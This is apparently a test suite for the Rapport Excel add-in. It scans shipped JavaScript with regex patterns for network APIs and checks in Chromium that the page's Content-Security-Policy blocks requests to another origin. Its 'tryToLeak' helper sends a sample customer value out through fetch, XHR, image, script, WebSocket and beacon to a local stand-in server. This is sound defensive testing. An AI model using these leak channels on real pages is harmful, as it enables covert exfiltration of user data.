// No data leaves: the shipped JavaScript has no network API but the wasm loader's one fetch of
// its own wasm, and the add-in page's Content-Security-Policy blocks connections elsewhere —
// checked in Chromium, with a control page without the policy proving the check can fail.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, readdirSync, statSync } from 'node:fs';
import { createServer } from 'node:http';
import { join, relative } from 'node:path';
import { ROOT, serveStatic, launchChromium } from './helpers.mjs';

const DIST = join(ROOT, 'dist');

function shippedFiles(dir, ext) {
  const out = [];
  for (const name of readdirSync(dir)) {
    const p = join(dir, name);
    if (statSync(p).isDirectory()) out.push(...shippedFiles(p, ext));
    else if (ext.some((e) => name.endsWith(e))) out.push(p);
  }
  return out;
}

/** Network APIs (and ways to make the browser request a URL) that shipped code must not use. */
const NETWORK_APIS = [
  { name: 'fetch', re: /\bfetch\s*\(/g },
  { name: 'XMLHttpRequest', re: /XMLHttpRequest/g },
  { name: 'WebSocket', re: /WebSocket/g },
  { name: 'EventSource', re: /EventSource/g },
  { name: 'sendBeacon', re: /sendBeacon/g },
  { name: 'importScripts', re: /importScripts/g },
  { name: 'dynamic import()', re: /\bimport\s*\(/g },
  { name: 'Worker', re: /\b(Shared)?Worker\s*\(/g },
  { name: 'RTCPeerConnection', re: /RTCPeerConnection/g },
  { name: 'element injection', re: /createElement\s*\(\s*["'`](script|img|iframe|link|object|embed|audio|video|source)["'`]/gi },
  { name: 'new Image', re: /new\s+Image\s*\(/g },
  { name: 'src/href assignment', re: /\.(src|href|action)\s*=[^=]/g },
  { name: 'window.open', re: /\bopen\s*\(\s*["'`]https?:/g },
  { name: 'absolute URL', re: /(https?|wss?):\/\/[^\s"'`]*/g },
];

/**
 * The one allowed use: wasm-bindgen's loader fetches the wasm (a URL built beside the script,
 * i.e. the add-in's own origin) when it is given a URL. Matched on the minified bundle.
 */
const ALLOWED = [{ api: 'fetch', around: /instanceof URL\)&&\(\w+=fetch\(\w+\)\)/ }];

test('no shipped JS file uses a network API beyond the wasm loader’s same-origin fetch', () => {
  const files = shippedFiles(DIST, ['.js', '.mjs', '.cjs']);
  assert.ok(files.some((f) => f.endsWith('excel/functions.js')), 'dist/excel/functions.js is scanned');
  const found = [];
  let allowedUses = 0;
  // Inline scripts of the shipped pages count too.
  const pages = shippedFiles(DIST, ['.html']);
  const sources = [
    ...files.map((f) => [f, readFileSync(f, 'utf8')]),
    ...pages.map((f) => [f, [...readFileSync(f, 'utf8').matchAll(/<script(?![^>]*\bsrc=)[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]).join('\n')]),
  ];
  for (const [file, src] of sources) {
    for (const { name, re } of NETWORK_APIS) {
      for (const m of src.matchAll(re)) {
        const window = src.slice(Math.max(0, m.index - 80), m.index + 80);
        if (ALLOWED.some((a) => a.api === name && a.around.test(window))) {
          allowedUses++;
          continue;
        }
        found.push(`${relative(ROOT, file)}: ${name}: …${window.replace(/\s+/g, ' ')}…`);
      }
    }
  }
  assert.deepEqual(found, [], `network API use in shipped code:\n${found.join('\n')}`);
  assert.equal(allowedUses, 1, 'exactly one fetch: the wasm loader');
});

test('the wasm URL is built beside the functions script, on the add-in’s own origin', () => {
  const src = readFileSync(join(DIST, 'excel/functions.js'), 'utf8');
  assert.match(src, /new URL\("rapport_bg\.wasm",\w+\|\|globalThis\.location\.href\)/);
});

test('the add-in page loads scripts only from itself and Office.js, and declares a strict CSP', () => {
  const html = readFileSync(join(DIST, 'excel/functions.html'), 'utf8');
  const scripts = [...html.matchAll(/<script[^>]*src="([^"]+)"/g)].map((m) => m[1]);
  assert.deepEqual(scripts, ['https://appsforoffice.microsoft.com/lib/1/hosted/office.js', 'functions.js']);
  const csp = html.match(/http-equiv="Content-Security-Policy" content="([^"]+)"/)?.[1];
  assert.ok(csp, 'a CSP meta tag');
  const directives = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  assert.deepEqual(directives['default-src'], ["'none'"]);
  assert.deepEqual(directives['connect-src'], ["'self'"]);
  assert.deepEqual(directives['img-src'], ["'self'"]);
  assert.deepEqual(directives['script-src'].sort(), ["'self'", "'wasm-unsafe-eval'", 'https://appsforoffice.microsoft.com'].sort());
  assert.deepEqual(directives['form-action'], ["'none'"]);
});

// ---- In Chromium ------------------------------------------------------------------------------

const OFFICE_JS = 'https://appsforoffice.microsoft.com/lib/1/hosted/office.js';
let site, elsewhere, browser;
const elsewhereHits = [];

before(async () => {
  // The add-in's origin, plus a control page without the policy.
  const html = readFileSync(join(DIST, 'excel/functions.html'), 'utf8');
  site = await serveStatic(join(DIST, 'excel'), {
    '/no-policy.html': { type: 'text/html; charset=utf-8', body: html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '') },
  });
  // "Another origin": a second loopback server that records anything reaching it.
  elsewhere = createServer((req, res) => {
    elsewhereHits.push(req.url);
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' });
    res.end('ok');
  });
  await new Promise((ok) => elsewhere.listen(0, '127.0.0.1', ok));
  browser = await launchChromium();
});
after(async () => {
  await browser?.close();
  await site?.close();
  await new Promise((ok) => elsewhere.close(ok));
});

/** Opens a page with Office.js replaced by the stand-in; records every request the page makes. */
async function openAddInPage(path) {
  const page = await browser.newPage();
  const requests = [];
  await page.route('**/*', (route) => {
    const url = route.request().url();
    requests.push(url);
    if (url === OFFICE_JS) return route.fulfill({ contentType: 'text/javascript', body: readFileSync(join(ROOT, 'js/excel/office-stand-in.js')) });
    if (new URL(url).hostname === '127.0.0.1') return route.continue();
    return route.abort(); // never beyond loopback
  });
  await page.goto(`${site.url}${path}`);
  await page.waitForFunction(() => globalThis.Rapport !== undefined);
  await page.evaluate(() => globalThis.Rapport.ready);
  return { page, requests };
}

/** Tries every way out from inside the page; resolves to what each attempt reported. */
function tryToLeak(page, target) {
  return page.evaluate(async (base) => {
    const out = {};
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const settle = (p) => Promise.race([p, new Promise((ok) => setTimeout(() => ok('timeout'), 3000))]);
    out.fetch = await settle(fetch(`${base}/fetch?customer=Acme`).then((r) => `status ${r.status}`, (e) => `blocked: ${e.name}`));
    out.xhr = await settle(new Promise((ok) => {
      const x = new XMLHttpRequest();
      x.onload = () => ok(`status ${x.status}`);
      x.onerror = () => ok('blocked');
      try { x.open('GET', `${base}/xhr`); x.send(); } catch (e) { ok(`blocked: ${e.name}`); }
    }));
    out.image = await settle(new Promise((ok) => {
      const img = new Image();
      img.onload = () => ok('loaded');
      img.onerror = () => ok('blocked');
      img.src = `${base}/pixel.png`;
    }));
    out.script = await settle(new Promise((ok) => {
      const s = document.createElement('script');
      s.onload = () => ok('loaded');
      s.onerror = () => ok('blocked');
      s.src = `${base}/x.js`;
      document.head.appendChild(s);
    }));
    out.websocket = await settle(new Promise((ok) => {
      try {
        const ws = new WebSocket(base.replace('http', 'ws') + '/ws');
        ws.onopen = () => ok('open');
        ws.onerror = () => ok('blocked');
      } catch (e) { ok(`blocked: ${e.name}`); }
    }));
    out.beacon = navigator.sendBeacon(`${base}/beacon`, 'Acme') ? 'queued' : 'blocked';
    await new Promise((ok) => setTimeout(ok, 500));
    out.violations = violations;
    return out;
  }, target);
}

test('in Chromium, the add-in page works and its CSP blocks every request to another origin', async () => {
  const { page, requests } = await openAddInPage('/functions.html');
  const score = await page.evaluate(() => globalThis.CustomFunctions.__registry.get('SEQ_SCORE')([[4, 5]], null, null, null));
  assert.deepEqual(score, [[87.5]], 'Rapport runs under its policy');
  const hitsBefore = elsewhereHits.length;
  const elsewhereUrl = `http://127.0.0.1:${elsewhere.address().port}`;
  const result = await tryToLeak(page, elsewhereUrl);
  assert.match(result.fetch, /^blocked/);
  assert.match(result.xhr, /^blocked/);
  assert.equal(result.image, 'blocked');
  assert.equal(result.script, 'blocked');
  assert.match(result.websocket, /^blocked/);
  assert.ok(result.violations.length >= 5, `CSP violations reported: ${result.violations}`);
  assert.equal(elsewhereHits.length, hitsBefore, `requests reached the other origin: ${elsewhereHits.slice(hitsBefore)}`);
  // Every request the page made went to the add-in's own origin or the (stood-in) Office.js.
  const outside = requests.filter((u) => u !== OFFICE_JS && !u.startsWith(site.url + '/'));
  assert.deepEqual(outside, []);
  assert.ok(requests.includes(`${site.url}/rapport_bg.wasm`));
  await page.close();
});

test('control: without the policy the same attempts do reach the other origin (the check can fail)', async () => {
  const { page } = await openAddInPage('/no-policy.html');
  const hitsBefore = elsewhereHits.length;
  const result = await tryToLeak(page, `http://127.0.0.1:${elsewhere.address().port}`);
  assert.equal(result.fetch, 'status 200');
  assert.ok(elsewhereHits.length > hitsBefore, 'the control page reached the other origin');
  await page.close();
});
